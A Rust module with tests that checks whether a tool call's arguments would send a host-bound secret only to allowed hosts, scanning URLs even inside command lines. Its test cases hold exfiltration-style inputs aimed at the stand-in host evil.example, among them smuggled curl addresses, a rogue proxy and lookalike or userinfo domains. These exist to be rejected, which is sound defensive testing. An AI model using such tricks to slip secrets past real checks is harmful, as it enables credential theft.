//! Where a call would take a secret, as far as its arguments say.

use serde_json::Value;
use url::Url;

/// The reason a secret that is bound to hosts is not put into a call.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum HostError {
    /// An address leads to a host that the secret is not for.
    #[error("the secret is not for the host `{0}`")]
    OtherHost(String),
    /// A part of the arguments looks like an address and cannot be read.
    #[error("`{0}` cannot be read as an address")]
    Unreadable(String),
    /// No argument says where the call goes.
    #[error("no address in its arguments says to which host the secret would go")]
    NoHost,
}

/// Checks that every address in the arguments leads to one of these hosts, and that there is one:
/// `host`, `host:port`, or `*.host` for every host below it.
pub fn check_hosts(args: &Value, allowed: &[String]) -> Result<(), HostError> {
    let mut found = false;
    check_value(args, allowed, &mut found)?;
    if found {
        Ok(())
    } else {
        Err(HostError::NoHost)
    }
}

fn check_value(value: &Value, allowed: &[String], found: &mut bool) -> Result<(), HostError> {
    match value {
        Value::String(text) => check_text(text, allowed, found),
        Value::Array(list) => list
            .iter()
            .try_for_each(|item| check_value(item, allowed, found)),
        Value::Object(map) => map.iter().try_for_each(|(key, value)| {
            check_text(key, allowed, found)?;
            check_value(value, allowed, found)
        }),
        Value::Null | Value::Bool(_) | Value::Number(_) => Ok(()),
    }
}

/// Checks every address in a text, which may be a whole command line.
fn check_text(text: &str, allowed: &[String], found: &mut bool) -> Result<(), HostError> {
    for (place, _) in text.match_indices("://") {
        let is_scheme = |letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter);
        let before = &text[..place];
        let start = before.trim_end_matches(is_scheme).len();
        let rest = &text[start..];
        let ends = |letter: char| letter.is_whitespace() || "\"'<>`|".contains(letter);
        let address = rest.split(ends).next().unwrap_or(rest);
        let unreadable = || HostError::Unreadable(address.chars().take(200).collect());
        let url = Url::parse(address).map_err(|_| unreadable())?;
        let host = url.host_str().ok_or_else(unreadable)?;
        *found = true;
        if !allowed.iter().any(|allowed| means(allowed, &url, host)) {
            return Err(HostError::OtherHost(host.to_owned()));
        }
    }
    Ok(())
}

fn means(allowed: &str, url: &Url, host: &str) -> bool {
    if let Some(parent) = allowed.strip_prefix("*.") {
        return host
            .strip_suffix(parent)
            .is_some_and(|rest| rest.len() > 1 && rest.ends_with('.'));
    }
    let with_port = || {
        let port = url.port_or_known_default()?;
        Some(format!("{host}:{port}"))
    };
    allowed.eq_ignore_ascii_case(host)
        || with_port().is_some_and(|full| allowed.eq_ignore_ascii_case(&full))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_secret_goes_to_the_hosts_it_is_for_and_nowhere_else() {
        let allowed = ["api.example.com", "*.corp.example", "db.example:5432"];
        let allowed = allowed.map(str::to_owned);
        for args in [
            json!({"url": "https://api.example.com/x?k=${secret.K}"}),
            json!({"url": "https://API.example.com"}),
            json!({"args": ["-c", "curl -H 'X: ${secret.K}' https://a.corp.example/y"]}),
            json!({"dsn": "postgres://u:${secret.K}@db.example:5432/x"}),
        ] {
            assert_eq!(check_hosts(&args, &allowed), Ok(()), "{args}");
        }
        for args in [
            json!({"url": "https://api.example.com.evil.example/"}),
            json!({"url": "https://api.example.com@evil.example/"}),
            json!({"url": "https://api.example.com/", "proxy": "http://evil.example"}),
            json!({"args": ["curl https://api.example.com/ https://evil.example/"]}),
            json!({"args": ["curl 'https://api.example.com/'https://evil.example/"]}),
            json!({"https://evil.example/": 1, "url": "https://api.example.com/"}),
            json!({"dsn": "postgres://u:${secret.K}@db.example:6432/x"}),
            json!({"url": "https://corp.example/"}),
            json!({"url": "https://xcorp.example/"}),
        ] {
            assert!(
                matches!(check_hosts(&args, &allowed), Err(HostError::OtherHost(_))),
                "{args}"
            );
        }
        for args in [json!({"to": "ada"}), json!({"host": "api.example.com"})] {
            assert_eq!(
                check_hosts(&args, &allowed),
                Err(HostError::NoHost),
                "{args}"
            );
        }
        let broken = json!({"url": "https://[x/"});
        assert!(check_hosts(&broken, &allowed).is_err());
    }
}
